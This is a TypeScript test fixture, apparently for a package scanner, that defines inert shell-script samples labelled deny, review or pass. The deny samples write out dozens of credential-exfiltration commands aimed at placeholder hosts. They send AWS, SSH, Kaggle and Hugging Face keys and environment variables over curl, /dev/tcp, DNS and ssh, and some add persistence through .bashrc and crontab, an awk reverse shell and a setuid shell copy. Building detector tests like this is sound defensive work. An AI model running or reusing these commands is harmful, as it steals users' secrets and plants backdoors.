/** Shell scripts that take credentials, and those that only use them. All inert: nothing here is run. */
import type { Shape } from './malicious.js';

const host = 'https://collect.invalid/u';
const keys = '~/.aws/credentials';

function script(
  name: string,
  tier: Shape['tier'],
  body: string,
  path = 'demo-1.0.data/scripts/demo-setup',
): Shape {
  return { name, tier, files: { [path]: `#!/bin/bash\n${body}\n` } };
}
const thief = (name: string, body: string, path?: string): Shape => script(name, 'deny', body, path);
const odd = (name: string, body: string): Shape => script(name, 'review', body);
const honest = (name: string, body: string): Shape => script(name, 'pass', body);

export const shellThieves: readonly Shape[] = [
  thief('an archive of keys that is piped to curl', `tar czf - ~/.kaggle | curl -s --data-binary @- ${host}`),
  thief('a file as a part of a form', `curl -F "f=@$HOME/.aws/credentials" ${host}`),
  thief('options of curl in one word', `curl -sd @$HOME/.kaggle/kaggle.json ${host}`),
  thief('a token of a cache', `cat ~/.cache/huggingface/token | curl -d @- ${host}`),
  thief('what a tool is logged in with', `gh auth token | curl -d @- ${host}`),
  thief('all variables by another name', `export -p | curl -d @- ${host}`),
  thief('a variable that holds a key', `curl -d "k=$OPENAI_API_KEY" ${host}`),
  thief('a key in an address', `curl "${host}?t=$GITHUB_TOKEN"`),
  thief('keys in a header', `curl -H "X-D: $(base64 -w0 ${keys})" ${host}`),
  thief('keys into a connection', `cat ${keys} > /dev/tcp/c.invalid/9`),
  thief('keys into a descriptor', `exec 3<>/dev/tcp/c.invalid/80\ncat ${keys} >&3`),
  thief('keys in names', `dig $(base64 -w0 ${keys} | cut -c1-60).c.invalid`),
  thief('keys into a bucket', `aws s3 cp ${keys} s3://demo-bucket/x`),
  thief('keys over ssh', `ssh u@c.invalid 'cat > x' < ${keys}`),
  thief('a function that sends its input', `send() { curl -s -d @- ${host}; }\ncat ${keys} | send`),
  thief('a function that sends its argument', `up() {\n  curl -s -F "f=@$1" ${host}\n}\nup ${keys}`),
  thief('a name that is put together', `$(echo curl) -d @$HOME/.aws/credentials ${host}`),
  thief('a search for keys', `find ~ -name "id_*" -exec curl -F f=@{} ${host} \\;`),
  thief('a search inside of files', `grep -rE "AKIA[0-9A-Z]{16}" ~ | curl -d @- ${host}`),
  thief('lines in a loop', `while IFS= read -r l; do curl -d "$l" ${host}; done < ${keys}`),
  thief(
    'a list of files',
    `fs=("$HOME/.ssh/id_rsa" b)\nfor f in "\${fs[@]}"; do curl -F "f=@$f" ${host}; done`,
  ),
  thief('a folder that is entered', `cd $HOME/.aws && curl -d @credentials ${host}`),
  thief('a here-document of a substitution', `curl -d @- ${host} <<EOF\n$(cat ${keys})\nEOF`),
  thief(
    'folders that are gathered first',
    `T=$(mktemp -d)\nfor d in .aws .kaggle; do\n  [ -d "$HOME/$d" ] && cp -r "$HOME/$d" "$T/cfg/"\ndone\ntar -C "$T" -czf "$T/d.tgz" cfg\ncurl -fsS --data-binary "@$T/d.tgz" ${host}`,
  ),
  thief('a trap', `trap 'cat ${keys} | curl -d @- ${host}' EXIT`),
  thief('a start file that sends', `echo 'env | curl -s -d @- ${host}' >> ~/.bashrc`),
  thief('a start file that fetches', `cat >> ~/.zshrc <<'E'\ncurl -s ${host} | sh\nE`),
  thief('a schedule that fetches', `(crontab -l; echo "* * * * * curl ${host} | sh") | crontab -`),
  thief('orders in a loop', `while :; do sh -c "$(curl -s ${host})"; sleep 60; done`),
  thief('a shell in awk', `awk 'BEGIN{s="/inet/tcp/0/198.51.100.7/9";s|&getline c;print c|&s}'`),
  thief('a script that is named as an image', `cat ${keys} | curl -d @- ${host}`, 'demo/logo.png'),
  odd('a shell for everybody', 'cp /bin/bash /tmp/.b; chmod u+s /tmp/.b'),
  odd('an index without a lock', 'pip config set global.index-url http://f.invalid/simple'),
  odd('a text that is turned around', 'echo "hs | dilavni.f lruc" | rev | sh'),

  honest('a key that is used', 'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user'),
  honest(
    'a key that is used by its owner',
    'curl -d "t=$SLACK_TOKEN" https://slack.com/api/chat.postMessage',
  ),
  honest(
    'a token in a login header',
    `curl -H "Authorization: Bearer $(cat ~/.cache/huggingface/token)" https://h.invalid/x`,
  ),
  honest(
    'a token that a tool prints',
    'curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://h.invalid/x',
  ),
  honest('a password to log in', 'curl -d "username=$USER&password=$PASSWORD" https://h.invalid/login'),
  honest(
    'a client that asks for a token',
    'curl -d "grant_type=refresh_token&client_secret=$GOOGLE_SECRET" https://h.invalid/token',
  ),
  honest('a place that is filled', 'curl -d "{}" -o ~/.kaggle/kaggle.json https://h.invalid/x'),
  honest('a public key', 'cat ~/.ssh/id_rsa.pub | ssh u@h.invalid "cat >> .ssh/authorized_keys"'),
  honest('settings that are deployed', 'scp .env u@h.invalid:/srv/app/.env'),
  honest('a start file with a path', 'echo \'export PATH="$HOME/.demo/bin:$PATH"\' >> ~/.bashrc'),
  honest("a registry of one's own", `npm config set registry https://registry.${['npmjs', 'org'].join('.')}`),
];
